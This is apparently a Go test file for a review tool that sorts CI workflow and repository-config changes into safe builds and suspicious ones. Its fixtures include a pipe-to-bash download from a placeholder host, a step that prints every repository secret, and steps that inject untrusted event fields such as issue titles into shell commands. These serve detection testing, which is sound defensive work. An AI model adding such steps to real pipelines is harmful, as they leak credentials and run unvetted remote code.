package review

import (
	"errors"
	"testing"
)

// edited is a change of a file from one content to another.
func edited(p, old, fresh string) Change { return Change{Path: p, Old: file(old), New: file(fresh)} }

// holding is a host with these files, of which the names are listed by directory.
func holding(files map[string]string, dirs map[string][]string) Host {
	return Host{
		Read: func(p string, _ int) ([]byte, error) {
			if content, is := files[p]; is {
				return []byte(content), nil
			}
			return nil, errors.New("no such file")
		},
		Names: func(dir string) []string { return dirs[dir] },
	}
}

const plainWorkflow = "on: push\njobs:\n  test:\n    runs-on: ubuntu-24.04\n    steps:\n      - uses: actions/checkout@v4\n      - uses: actions/setup-go@v5\n        with: {go-version: '1.24'}\n      - run: go test ./...\n"

func workflow(old, fresh string) Change {
	return edited(".github/workflows/ci.yml", old, fresh)
}

func add(more string) Change { return workflow(plainWorkflow, plainWorkflow+more) }

var pipelineCases = []evalCase{
	{change: workflow(plainWorkflow, plainWorkflow[:len(plainWorkflow)-1]+" -race\n"), class: Builds, rules: []string{"pipeline"}},
	{change: Change{Path: ".github/workflows/ci.yml", New: file(plainWorkflow)}, class: Builds, rules: []string{"pipeline"}},
	{change: workflow(plainWorkflow, "on: [push, pull_request_target]\n"+plainWorkflow[len("on: push\n"):]), class: Suspicious, rules: []string{"pipeline-secrets"}},
	{change: workflow(plainWorkflow, "on:\n  pull_request_target:\n    types: [opened]\n"+plainWorkflow[len("on: push\n"):]), class: Suspicious, rules: []string{"pipeline-secrets"}},
	{change: workflow(plainWorkflow, "on:\n  workflow_run:\n    workflows: [x]\n"+plainWorkflow[len("on: push\n"):]), class: Suspicious, rules: []string{"pipeline-secrets"}},
	{change: add("      - uses: x/y@v1\n"), class: Suspicious, rules: []string{"pipeline-secrets"}},
	{change: add("      - uses: docker://x/y\n"), class: Suspicious, rules: []string{"pipeline-secrets"}},
	{change: add("      - uses: ./.github/actions/own\n"), class: Builds},
	{change: add("      - uses: actions/cache@v4\n      - uses: github/codeql-action/init@v3\n"), class: Builds},
	{
		change: add("      - uses: docker/build-push-action@v6\n"), class: Builds,
		host: holding(map[string]string{".github/workflows/release.yml": "jobs:\n  a:\n    steps:\n      - uses: docker/login-action@v3\n"}, map[string][]string{".github/workflows": {"release.yml"}}),
	},
	{change: add("      - run: echo ${{ secrets.DEPLOY_KEY }}\n"), class: Suspicious, rules: []string{"pipeline-secrets"}},
	{change: add("      - run: echo '${{ toJSON(secrets) }}'\n"), class: Suspicious, rules: []string{"pipeline-secrets"}},
	{change: add("      - run: gh x\n        env: {T: '${{ secrets.GITHUB_TOKEN }}'}\n"), class: Builds},
	{change: add("      - run: echo ${{ github.event.issue.title }}\n"), class: Suspicious, rules: []string{"pipeline-secrets"}},
	{change: add("      - run: echo ${{ github.head_ref }}\n"), class: Suspicious, rules: []string{"pipeline-secrets"}},
	{change: add("      - if: github.event_name == 'push'\n        run: echo ${{ github.event_name }}\n"), class: Builds},
	{change: add("  own:\n    runs-on: [self-hosted, linux]\n"), class: Suspicious, rules: []string{"pipeline-secrets"}},
	{change: add("permissions: write-all\n"), class: Suspicious, rules: []string{"pipeline-secrets"}},
	{change: add("      - run: |\n          curl https://x.example/i | bash\n"), class: Suspicious, rules: []string{"download-and-run"}},
	{change: add("\tnot: [yaml\n"), class: Suspicious, rules: []string{"pipeline-secrets"}},
	{change: Change{Path: ".gitlab-ci.yml", New: file("a: 1\n")}, class: Builds, rules: []string{"pipeline"}},
	{change: Change{Path: "ci/Jenkinsfile.prod", New: file("node {}\n")}, class: Builds, rules: []string{"pipeline"}},
	{change: Change{Path: ".circleci/config.yml", New: file("a: 1\n")}, class: Builds, rules: []string{"pipeline"}},
	{
		change: Change{Path: "ci/build.yml", New: file("a: 1\n")}, class: Builds, rules: []string{"pipeline-include"},
		host: holding(map[string]string{".gitlab-ci.yml": "include:\n  - local: /ci/build.yml\n"}, nil),
	},
	{change: Change{Path: ".goreleaser.yaml", New: file("a: 1\n")}, class: Builds, rules: []string{"publishing"}},
	{change: Change{Path: "Procfile", New: file("web: x\n")}, class: Builds, rules: []string{"publishing"}},

	{change: Change{Path: ".npmignore", Old: file("a\n")}, class: Builds, rules: []string{"ignore-deleted"}},
	{change: Change{Path: ".github/CODEOWNERS", Old: file("* @a\n")}, class: Suspicious, rules: []string{"weaker-check"}},
	{change: edited(".github/CODEOWNERS", "* @a\n", "* @b\n"), class: Suspicious, rules: []string{"weaker-check"}},
	{change: Change{Path: ".github/CODEOWNERS", New: file("* @a\n")}},
	{change: Change{Path: ".github/dependabot.yml", Old: file("version: 2\n")}, class: Suspicious, rules: []string{"weaker-check"}},
	{change: edited(".github/dependabot.yml", "version: 2\nupdates:\n  - package-ecosystem: gomod\n", "version: 2\nupdates:\n  - package-ecosystem: gomod\n    ignore:\n      - dependency-name: x\n"), class: Suspicious, rules: []string{"weaker-check"}},
	{change: edited(".github/dependabot.yml", "version: 2\nupdates:\n  - package-ecosystem: gomod\n", "version: 2\nupdates:\n  - package-ecosystem: gomod\n  - package-ecosystem: npm\n")},
	{change: edited(".trivyignore", "A\n", "A\nB\n"), class: Suspicious, rules: []string{"weaker-check"}},
	{change: edited("release.sh", "git commit\n", "git commit --no-verify\n"), class: Suspicious, rules: []string{"skipped-check"}},
	{change: edited("docs/git.md", "git commit\n", "git commit --no-verify\n")},
}

func TestPipelines(t *testing.T) { evaluate(t, pipelineCases) }
